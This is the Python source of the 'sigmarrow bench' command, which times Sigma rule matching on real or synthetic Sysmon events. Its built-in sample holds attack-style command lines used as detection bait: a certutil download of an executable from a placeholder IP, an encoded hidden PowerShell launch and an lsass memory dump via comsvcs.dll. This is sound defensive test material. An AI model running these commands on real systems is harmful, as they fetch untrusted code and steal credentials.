"""``sigmarrow bench``: how fast your rules match your data on this machine.

    sigmarrow bench [RULES...] [--input DATA...] [--pipeline P]... [--threads 1,4] [--rows N]

Compiles RULES (default: the SigmaHQ rule snapshot at ``$SIGMARROW_SIGMA_DIR``, else
``../shared/sigma`` from the current folder or from the source tree), reads DATA (Parquet,
Arrow IPC, JSON Lines or EVTX files, folders or globs, as ``sigmarrow scan`` finds them;
only the columns the rules read) into memory, or without ``--input`` generates a small
built-in sample of synthetic Sysmon process-creation events; then times matching, one
warm-up and ``--runs`` timed runs per thread count, each on a fresh engine (its value memos
start empty, as on data seen once), and prints the best and median times,
events per second, and the hits per rule. Every run must give the same hits. Reading is not
timed. The project's own benchmarks, with peers and answer checks, are in ``benches/``.
"""

from __future__ import annotations

import argparse
import io
import os
import random
import statistics
import sys
import time
from collections.abc import Sequence
from pathlib import Path

import numpy as np
import pyarrow as pa

import sigmarrow
from sigmarrow import DataError, UsageError
from sigmarrow.scan import InputFile, discover_inputs

__all__ = ["add_arguments", "run", "sample_events"]

SAMPLE_ROWS = 100_000
RULE_FOLDERS = ("rules", "rules-emerging-threats", "rules-threat-hunting")

# --------------------------------------------------------------------------------------
# The built-in sample
# --------------------------------------------------------------------------------------

_SYS32 = "C:\\Windows\\System32\\"
_CHROME = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
_EXPLORER = "C:\\Windows\\explorer.exe"
#: (Image, CommandLine template, ParentImage) of everyday programs ...
_BENIGN = (
    (_SYS32 + "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s {svc}",
     _SYS32 + "services.exe"),
    (_SYS32 + "conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
     _SYS32 + "cmd.exe"),
    (_CHROME, f'"{_CHROME}" --type=renderer --lang=en-US --renderer-client-id={{n}}', _CHROME),
    (_SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe",
     "powershell.exe -NoProfile -File C:\\scripts\\inventory{n}.ps1", _SYS32 + "svchost.exe"),
    (_SYS32 + "cmd.exe", "cmd.exe /c echo {n} > C:\\Users\\{user}\\out{n}.txt", _EXPLORER),
    (_SYS32 + "notepad.exe", '"C:\\Windows\\system32\\notepad.exe" C:\\Users\\{user}\\n{n}.txt',
     _EXPLORER),
    ("C:\\Program Files\\Git\\cmd\\git.exe", "git.exe fetch origin --prune", _SYS32 + "cmd.exe"),
    (_SYS32 + "wbem\\WmiPrvSE.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -Embedding",
     _SYS32 + "svchost.exe"),
)
#: ... and, one event in fifty, command lines that SigmaHQ rules look for.
_SUSPICIOUS = (
    (_SYS32 + "whoami.exe", "whoami /priv", _SYS32 + "cmd.exe"),
    (_SYS32 + "certutil.exe", "certutil.exe -urlcache -split -f http://203.0.113.{m}/a.exe a.exe",
     _SYS32 + "cmd.exe"),
    (_SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe",
     "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", _SYS32 + "cmd.exe"),
    (_SYS32 + "rundll32.exe",
     "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {n} C:\\temp\\lsass.dmp full",
     _SYS32 + "cmd.exe"),
)
_USERS = ("alice", "bob", "carol", "dave", "svc_backup")


def sample_events(rows: int = SAMPLE_ROWS, seed: int = 1) -> pa.Table:
    """`rows` synthetic Sysmon process-creation events (EventID 1), the same for the same
    seed: a few programs with high-cardinality command lines, 2% of them suspicious."""
    rng = random.Random(seed)
    names = ("EventID", "Computer", "User", "Image", "OriginalFileName", "CommandLine",
             "CurrentDirectory", "IntegrityLevel", "ParentImage")
    cols: dict[str, list[object]] = {name: [] for name in names}
    for _ in range(rows):
        image, template, parent = rng.choice(_SUSPICIOUS if rng.random() < 0.02 else _BENIGN)
        user = rng.choice(_USERS)
        values = (1, f"ws{rng.randrange(500):04d}.corp.example", f"CORP\\{user}", image,
                  image.rsplit("\\", 1)[1],
                  template.format(n=rng.randrange(100_000), m=rng.randrange(1, 255), user=user,
                                  svc=rng.choice(("Schedule", "BITS", "Winmgmt"))),
                  f"C:\\Users\\{user}\\", rng.choice(("Medium", "High", "System")), parent)
        for name, value in zip(names, values, strict=True):
            cols[name].append(value)
    types = {"EventID": pa.int64()}
    return pa.table({k: pa.array(v, types.get(k, pa.string())) for k, v in cols.items()})


# --------------------------------------------------------------------------------------
# Rules and data
# --------------------------------------------------------------------------------------


def default_rules() -> tuple[Path, list[Path]]:
    """The SigmaHQ snapshot and its rule folders: ``$SIGMARROW_SIGMA_DIR``, else
    ``../shared/sigma`` from the current folder, then from the source tree."""
    configured = os.environ.get("SIGMARROW_SIGMA_DIR")
    if configured:
        candidates = [Path(configured)]
    else:
        candidates = [Path.cwd().parent / "shared" / "sigma",
                      Path(__file__).resolve().parents[3] / "shared" / "sigma"]
    for sigma_dir in candidates:
        folders = [sigma_dir / f for f in RULE_FOLDERS if (sigma_dir / f).is_dir()]
        if folders:
            return sigma_dir.resolve(), folders
    where = (f"SIGMARROW_SIGMA_DIR={configured} has no rules/ folder" if configured else
             "none at ../shared/sigma here or beside the source tree, and SIGMARROW_SIGMA_DIR is not set")
    raise UsageError(f"no RULES given and no SigmaHQ rule snapshot found ({where}): pass rule "
                     "files or folders, `sigmarrow bench RULES... [--input DATA...]`, or set "
                     "SIGMARROW_SIGMA_DIR to a clone of https://github.com/SigmaHQ/sigma")


def _wanted(matcher: sigmarrow.Matcher, schema: pa.Schema) -> list[str]:
    """The columns matching reads: the rules' fields (and structs holding dotted ones), or
    every column when keyword rules search them."""
    if matcher.has_keywords:
        return schema.names
    fields = set(matcher.fields)
    return [n for n in schema.names if n in fields or any(f.startswith(n + ".") for f in fields)]


def _read_file(f: InputFile, matcher: sigmarrow.Matcher) -> pa.Table:
    if f.kind == "parquet":
        import pyarrow.parquet as pq

        with f.filesystem.open_input_file(f.path) as handle:
            data = pq.ParquetFile(handle)
            return data.read(columns=_wanted(matcher, data.schema_arrow))
    if f.kind == "ipc":
        with f.filesystem.open_input_file(f.path) as handle:
            try:
                table = pa.ipc.open_file(handle).read_all()
            except pa.ArrowInvalid:
                handle.seek(0)
                table = pa.ipc.open_stream(handle).read_all()
    elif f.kind in ("jsonl", "json"):
        import pyarrow.json as pj

        with f.filesystem.open_input_stream(f.path) as handle:
            table = pj.read_json(handle)
    else:
        from sigmarrow.evtx import read_evtx

        with f.filesystem.open_input_file(f.path) as handle:
            table = read_evtx(io.BytesIO(handle.read()))
    return table.select(_wanted(matcher, table.schema))


def read_events(inputs: Sequence[str], matcher: sigmarrow.Matcher, rows: int) -> tuple[pa.Table, int]:
    """(the events of `inputs`, at most `rows` of them (0: all), with the columns the
    rules read; the number of files read)."""
    files, _ = discover_inputs(inputs)
    tables: list[pa.Table] = []
    for f in files:
        try:
            tables.append(_read_file(f, matcher))
        except (pa.ArrowException, OSError, ImportError, ValueError) as exc:
            raise DataError(f"{f.display}: cannot read it: {' '.join(str(exc).split())}") from None
        if rows and sum(t.num_rows for t in tables) >= rows:
            break
    try:
        table = pa.concat_tables(tables, promote_options="permissive")
    except pa.ArrowException as exc:
        raise DataError(f"the input files do not fit in one table: {exc}") from None
    return (table.slice(0, rows) if rows else table), len(tables)


# --------------------------------------------------------------------------------------
# The command
# --------------------------------------------------------------------------------------


def _whole_numbers(text: str) -> list[int]:
    """A comma-separated list of whole numbers, each at least 1 (an option's value)."""
    try:
        numbers = [int(part) for part in text.split(",")]
    except ValueError:
        raise argparse.ArgumentTypeError(f"not a whole number or a list of them: {text!r}") from None
    if min(numbers) < 1:
        raise argparse.ArgumentTypeError(f"must be at least 1: {text!r}")
    return numbers


def _whole_number(text: str) -> int:
    numbers = _whole_numbers(text)
    if len(numbers) > 1:
        raise argparse.ArgumentTypeError(f"one number, not a list: {text!r}")
    return numbers[0]


def add_arguments(p: argparse.ArgumentParser) -> None:
    p.add_argument("rules", nargs="*", metavar="RULES",
                   help="Sigma rule files or folders (default: the SigmaHQ snapshot at "
                        "$SIGMARROW_SIGMA_DIR or ../shared/sigma)")
    p.add_argument("--input", "-i", nargs="+", action="extend", default=[], metavar="PATH",
                   help="data to match: Parquet, Arrow IPC, JSON Lines or EVTX files, folders "
                        "or globs (default: a built-in sample of synthetic Sysmon events)")
    p.add_argument("--pipeline", "-p", action="append", default=[], metavar="NAME_OR_FILE",
                   help="pySigma processing pipeline, as for `sigmarrow scan`; repeatable")
    p.add_argument("--threads", "-j", type=_whole_numbers, metavar="N[,N...]",
                   help="thread counts to time (default: 1 and all cores)")
    p.add_argument("--rows", type=_whole_number, metavar="N",
                   help=f"at most N events of the input; the sample's size (default {SAMPLE_ROWS:,})")
    p.add_argument("--runs", type=_whole_number, default=5, metavar="N",
                   help="timed runs per thread count (default: 5)")
    p.add_argument("--top", type=int, default=20, metavar="N",
                   help="rules to list, most hits first (default: 20; 0: all)")


def _cores() -> int:
    return len(os.sched_getaffinity(0)) if hasattr(os, "sched_getaffinity") else os.cpu_count() or 1


def time_matching(matcher: sigmarrow.Matcher, table: pa.Table, thread_counts: Sequence[int],
                  runs: int) -> tuple[np.ndarray, bool]:
    """Prints the best and median of `runs` timed runs (after one warm-up) per thread
    count; returns the hits per rule and whether every run gave the same. Each run has a
    fresh engine, built untimed: a second run over the same table would find its values
    in the memos and flatter the engine."""
    answers: list[np.ndarray] = []  # hits per rule, of every run
    print(f"\n{'threads':>7}  {'best':>10}  {'median':>10}  {'events/s (best)':>16}  {'(median)':>12}")
    for threads in thread_counts:
        times = []
        for run in range(runs + 1):
            fresh = matcher.with_options()
            start = time.perf_counter()
            _, rule_index = fresh.match_indices(table, threads=threads)
            took = time.perf_counter() - start
            answers.append(np.bincount(rule_index.to_numpy(zero_copy_only=False), minlength=len(matcher.rules)))
            if run:  # the first run warms up
                times.append(took)
        best, median = min(times), statistics.median(times)
        print(f"{threads:>7}  {best * 1000:>7,.1f} ms  {median * 1000:>7,.1f} ms  "
              f"{table.num_rows / best:>16,.0f}  {table.num_rows / median:>12,.0f}")
    print(f"(one warm-up and {runs} timed runs per thread count, each on a fresh engine; {_cores()} cores available)")
    return answers[0], all(np.array_equal(a, answers[0]) for a in answers)


def print_hits(matcher: sigmarrow.Matcher, counts: np.ndarray, top: int) -> None:
    """The hit count of each rule that matched, most hits first (`top` of them; 0: all)."""
    hit = sorted((i for i in range(len(matcher.rules)) if counts[i]), key=lambda i: (-counts[i], i))
    print(f"\n{int(counts.sum()):,} hits on {len(hit):,} of {len(matcher.rules):,} rules")
    shown = hit[:top] if top > 0 else hit
    width = len(f"{int(counts[hit[0]]):,}") if hit else 1
    for i in shown:
        rule = matcher.rules[i]
        print(f"  {int(counts[i]):>{width},}  {rule.level or '-':<13} {rule.title}  ({rule.id})")
    if len(shown) < len(hit):
        print(f"  ... and {len(hit) - len(shown):,} more rules (--top 0 lists them all)")


def run(args: argparse.Namespace) -> int:
    """Runs the bench; 0 when every run gave the same hits, 1 when they differ."""
    if args.rules:
        rules, origin = args.rules, ", ".join(args.rules)
    else:
        sigma_dir, folders = default_rules()
        rules = [str(f) for f in folders]
        origin = f"the SigmaHQ snapshot at {sigma_dir} ({', '.join(f.name for f in folders)})"
    for path in rules:
        if not os.path.exists(path):
            raise UsageError(f"rule file or folder not found: {path}")
    start = time.perf_counter()
    matcher = sigmarrow.compile(rules, pipeline=args.pipeline or None)
    compile_s = time.perf_counter() - start
    if not matcher.rules:
        reasons = "".join(f"\n  {e}" for e in matcher.errors)
        raise UsageError("no rule compiled" + (reasons or f" (no rules found in {', '.join(rules)})"))
    print(f"rules: {len(matcher.rules):,} from {origin}, compiled in {compile_s:.2f} s"
          + (f"; {len(matcher.errors):,} did not compile, e.g. {matcher.errors[0]}" if matcher.errors else ""))

    start = time.perf_counter()
    if args.input:
        table, files = read_events(args.input, matcher, args.rows or 0)
        source = f"{files:,} file{'s' if files != 1 else ''}"
    else:
        table = sample_events(args.rows or SAMPLE_ROWS)
        source = "the built-in sample of synthetic Sysmon process-creation events"
    print(f"data: {table.num_rows:,} events of {source}, {table.num_columns} columns, "
          f"{table.nbytes / 2**20:,.1f} MiB in memory (loaded in {time.perf_counter() - start:.2f} s, not timed)")
    missing = matcher.missing_fields(table)
    if missing:
        print(f"fields of the rules that the data lacks ({len(missing)}): {', '.join(missing[:10])}"
              + (f" and {len(missing) - 10} more" if len(missing) > 10 else ""))

    counts, same = time_matching(matcher, table, args.threads or list(dict.fromkeys((1, _cores()))), args.runs)
    print_hits(matcher, counts, args.top)
    if not same:
        print("the runs DIFFER in their hits: this is a bug, please report it", file=sys.stderr)
    return 0 if same else 1
